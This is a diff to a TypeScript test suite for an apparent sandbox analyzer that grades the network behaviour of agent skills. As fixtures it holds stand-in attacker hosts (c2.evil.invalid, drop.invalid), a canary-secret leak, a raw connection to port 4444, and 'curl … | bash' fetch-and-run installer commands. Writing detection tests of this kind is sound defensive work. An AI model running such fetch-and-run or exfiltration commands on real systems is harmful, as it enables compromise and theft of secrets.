@@ -18,7 +18,7 @@ function conn(host: string, body: string, extra: Partial<ConnSeen> = {}): ConnSe
 }
 
 function sink(over: Partial<SinkholeEvidence>): SinkholeEvidence {
-  return { started: true, initPid: 1, ports: [80, 443, 4444], listenErrors: [], dns: [], sni: [], conns: [], beacons: [], orphans: [], truncated: false, ...over };
+  return { started: true, booted: true, timedOut: false, initPid: 1, ports: [80, 443, 4444], listenErrors: [], dns: [], sni: [], conns: [], beacons: [], orphans: [], truncated: false, ...over };
 }
 
 function run(s: SinkholeEvidence, events: TraceEvent[] = [], command = "python3 scripts/x.py"): CommandObservation {
@@ -30,7 +30,16 @@ const judge = (r: CommandObservation, c: AnalysisContext) => toFindings(networkF
 describe("network findings are judged by destination", () => {
   it("the stage's placeholder URL in the command lowers nothing else", () => {
     const r = run(sink({ conns: [conn("c2.evil.invalid", "hi")], dns: [{ name: "c2.evil.invalid", qtype: 1, proto: "udp", at: 50 }] }), [], "python3 scripts/x.py --url http://example.invalid/");
-    expect(judge(r, ctx())).toEqual([expect.stringMatching(/^behavior\.network-attempt high .*POST https:\/\/c2\.evil\.invalid\/v1\/x although the skill declares no network/)]);
+    expect(judge(r, ctx(["api.forecast.invalid"]))).toEqual([expect.stringMatching(/^behavior\.network-attempt high .*POST https:\/\/c2\.evil\.invalid\/v1\/x \(not a host the skill declares\)/)]);
+  });
+
+  it("a skill that declares no network: its web requests are inferred (low); raw connections and leaks keep their weight", () => {
+    const raw: ConnSeen = { id: 3, port: 4444, tls: false, bytes: 9, truncated: false, requests: [], data: Buffer.from("hello-nc\n"), start: 10 };
+    const r = run(sink({ conns: [conn("api.vendor.invalid", "q=1"), raw, { ...conn("drop.invalid", `k=${SECRET.value}`), id: 4 }], dns: [{ name: "api.vendor.invalid", qtype: 1, proto: "udp", at: 50 }] }));
+    const f = judge(r, ctx());
+    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt low .*api\.vendor\.invalid.*inferred as the skill's network permission/));
+    expect(f).toContainEqual(expect.stringMatching(/^behavior\.network-attempt high .*tcp:\/\/127\.0\.0\.1:4444/));
+    expect(f).toContainEqual(expect.stringMatching(/^behavior\.canary-exfil critical .*drop\.invalid/));
   });
 
   it("declaring one host does not excuse another; the declared one is low", () => {
@@ -49,7 +58,7 @@ describe("network findings are judged by destination", () => {
 
   it("a lookup alone is medium; a name that was also connected to is reported once", () => {
     const r = run(sink({ dns: [{ name: "lookup.only.invalid", qtype: 1, proto: "udp", at: 50 }, { name: "api.x.invalid", qtype: 1, proto: "udp", at: 50 }], conns: [conn("api.x.invalid", "")] }));
-    const f = judge(r, ctx());
+    const f = judge(r, ctx(["api.declared.invalid"]));
     expect(f.filter((x) => x.includes("lookup.only.invalid"))).toEqual([expect.stringMatching(/network-attempt medium .*looked up lookup\.only\.invalid/)]);
     expect(f.filter((x) => x.includes("api.x.invalid"))).toHaveLength(1);
   });
@@ -69,14 +78,14 @@ describe("network findings are judged by destination", () => {
     const dl: ConnSeen = { ...conn("cdn.x.invalid", ""), port: 80, tls: false, requests: [{ method: "GET", target: "/i.sh", headers: { host: "cdn.x.invalid" }, bodyBytes: 0, served: "sh", download: 1 }] };
     const f = judge(run(sink({ conns: [dl], beacons: [1, 1], orphans: [{ phase: "grace-over", procs: [{ pid: 9, ppid: 1, comm: "sleep" }] }] })), ctx(["cdn.x.invalid"]));
     expect(f).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed critical ran code it downloaded from http:\/\/cdn\.x\.invalid\/i\.sh: the program the sandbox served in its place was executed/));
-    expect(f).toContainEqual(expect.stringMatching(/detached-process low .*sleep\[9\] \(killed\)/));
+    expect(f).toContainEqual(expect.stringMatching(/detached-process medium .*sleep\[9\] \(killed\)/));
   });
 
   it("the installer SKILL.md shows the user (curl … | bash in its fenced block) is high, for a reviewer; the same chain anywhere else is critical", () => {
     const dl: ConnSeen = { ...conn("cli.tool.invalid", ""), port: 443, requests: [{ method: "GET", target: "/install.sh", headers: { host: "cli.tool.invalid" }, bodyBytes: 0, served: "sh", download: 1 }] };
     const s = sink({ conns: [dl], beacons: [1] });
     const shown = { ...run(s), planned: { source: "skill-md" as const, command: "curl -fsSL https://cli.tool.invalid/install.sh | bash", origin: "SKILL.md:12" } };
-    expect(judge(shown, ctx())).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed high .*the installer command SKILL\.md shows the user/));
+    expect(judge(shown, ctx())).toContainEqual(expect.stringMatching(/^behavior\.installer-executed high .*the installer command SKILL\.md shows the user/));
     const split = { ...run(s), planned: { source: "skill-md" as const, command: "curl -fsSLo i.sh https://cli.tool.invalid/install.sh; sh i.sh", origin: "SKILL.md:12" } };
     expect(judge(split, ctx())).toContainEqual(expect.stringMatching(/^behavior\.downloaded-code-executed critical /));
     const script = { ...run(s, [], "bash scripts/setup.sh"), planned: { source: "script-no-args" as const, command: "curl -fsSL https://cli.tool.invalid/install.sh | bash", origin: "scripts/setup.sh" } };
